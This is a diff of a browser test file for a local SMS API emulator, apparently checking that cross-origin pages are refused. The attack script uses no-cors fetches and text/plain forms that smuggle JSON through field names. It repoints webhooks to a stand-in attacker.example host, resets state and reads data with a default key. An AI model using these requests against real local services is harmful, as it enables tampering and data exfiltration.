@@ -64,54 +64,51 @@ afterAll(async () => {
 const state = (emulator: Emulator) => ({ snapshot: emulator.snapshot(), chaos: emulator.webhooks.chaos() });
 
 /**
- * Runs in the attacker's page: "simple" requests (no-cors fetch with text/plain, auto-submitted forms) that move the
- * clock, hold webhooks for 7 days, create an account and reset everything; then reads of the control API, the report
- * and the API with the well-known default key. Answers what each read got.
+ * Runs in the attacker's page (plain script text: the page's own globals, not Node's): "simple" requests (no-cors fetch
+ * with text/plain, auto-submitted forms) that move the clock, hold webhooks for 7 days, create an account, point the
+ * default account's webhooks at the attacker and reset everything; then reads of the control API, the report and the
+ * API with the well-known default key. Answers what each read got.
  */
-async function attack(page: Page, target: string): Promise<Record<string, string>> {
-  return page.evaluate(async (target) => {
-    const simple = (path: string, body: string) =>
-      fetch(target + path, { method: 'POST', mode: 'no-cors', headers: { 'content-type': 'text/plain' }, body }).catch(() => undefined);
-    await simple('/_emulator/clock', '{"advance":"24h"}');
-    await simple('/_emulator/webhooks/chaos', '{"delayRate":1,"delay":"7d"}');
-    await simple('/_emulator/accounts', '{"apiKey":"pk_attacker","webhookUrl":"http://attacker.example/hook"}');
-    await simple(`/_emulator/accounts/pk_test_sms_emulator`, '{"webhookUrl":"http://attacker.example/hook"}');
-    const submit = (path: string, name: string, value: string) =>
-      new Promise<void>((resolve) => {
-        const frame = document.createElement('iframe');
-        frame.name = `sink${Math.random()}`;
-        document.body.append(frame);
-        const form = document.createElement('form');
-        Object.assign(form, { method: 'POST', action: target + path, enctype: 'text/plain', target: frame.name });
-        const field = document.createElement('input');
-        Object.assign(field, { name, value });
-        form.append(field);
-        document.body.append(form);
-        frame.onload = () => resolve();
-        form.submit();
-      });
-    // text/plain forms send `name=value`: the name carries the JSON, the value closes it.
-    await submit('/_emulator/clock', '{"advance":"48h","x":"', '"}');
-    await submit('/_emulator/reset', 'x', 'y');
-    const reads: Record<string, string> = {};
-    const basic = `Basic ${btoa('pk_test_sms_emulator:')}`;
-    for (const path of [
-      '/_emulator/accounts',
-      '/_emulator/snapshot',
-      '/_emulator/messages',
-      '/_emulator/report?format=json',
-      '/v1/messages',
-      '/sandbox/v1/messages/balance',
-    ]) {
-      try {
-        const response = await fetch(target + path, { headers: path.startsWith('/_') ? {} : { authorization: basic } });
-        reads[path] = `${response.status} ${await response.text()}`;
-      } catch {
-        reads[path] = 'unreadable';
-      }
+const attackScript = `async (target) => {
+  const simple = (path, body) =>
+    fetch(target + path, { method: 'POST', mode: 'no-cors', headers: { 'content-type': 'text/plain' }, body }).catch(() => undefined);
+  await simple('/_emulator/clock', '{"advance":"24h"}');
+  await simple('/_emulator/webhooks/chaos', '{"delayRate":1,"delay":"7d"}');
+  await simple('/_emulator/accounts', '{"apiKey":"pk_attacker","webhookUrl":"http://attacker.example/hook"}');
+  await simple('/_emulator/accounts/pk_test_sms_emulator', '{"webhookUrl":"http://attacker.example/hook"}');
+  const submit = (path, name, value) =>
+    new Promise((resolve) => {
+      const frame = document.createElement('iframe');
+      frame.name = 'sink' + Math.random();
+      document.body.append(frame);
+      const form = document.createElement('form');
+      Object.assign(form, { method: 'POST', action: target + path, enctype: 'text/plain', target: frame.name });
+      const field = document.createElement('input');
+      Object.assign(field, { name, value });
+      form.append(field);
+      document.body.append(form);
+      frame.onload = () => resolve();
+      form.submit();
+    });
+  // text/plain forms send name=value: the name carries the JSON, the value closes it.
+  await submit('/_emulator/clock', '{"advance":"48h","x":"', '"}');
+  await submit('/_emulator/reset', 'x', 'y');
+  const reads = {};
+  const basic = 'Basic ' + btoa('pk_test_sms_emulator:');
+  const paths = ['/_emulator/accounts', '/_emulator/snapshot', '/_emulator/messages', '/_emulator/report?format=json', '/v1/messages', '/sandbox/v1/messages/balance'];
+  for (const path of paths) {
+    try {
+      const response = await fetch(target + path, { headers: path.startsWith('/_') ? {} : { authorization: basic } });
+      reads[path] = response.status + ' ' + (await response.text());
+    } catch {
+      reads[path] = 'unreadable';
     }
-    return reads;
-  }, target);
+  }
+  return reads;
+}`;
+
+function attack(page: Page, target: string): Promise<Record<string, string>> {
+  return page.evaluate(`(${attackScript})(${JSON.stringify(target)})`);
 }
 
 /** Each read got `refused` (the browser's refusal, or the emulator's), and none of the emulator's data. */
@@ -173,16 +170,12 @@ test('the inbox framed by a page on another origin is refused', async () => {
     const page = await context.newPage();
     await page.goto(`${attackerOrigin}/`);
     const inbox = `http://127.0.0.1:${port}/_emulator/ui`;
-    await page.evaluate(
-      (inbox) =>
-        new Promise<void>((resolve) => {
-          const frame = document.createElement('iframe');
-          frame.onload = () => resolve();
-          frame.src = inbox;
-          document.body.append(frame);
-        }),
-      inbox,
-    );
+    await page.evaluate(`new Promise((resolve) => {
+      const frame = document.createElement('iframe');
+      frame.onload = () => resolve();
+      frame.src = ${JSON.stringify(inbox)};
+      document.body.append(frame);
+    })`);
     const frame = page.frames().find((candidate) => candidate !== page.mainFrame());
     expect(frame).toBeDefined();
     expect(await frame?.locator('.brand').count()).toBe(0);
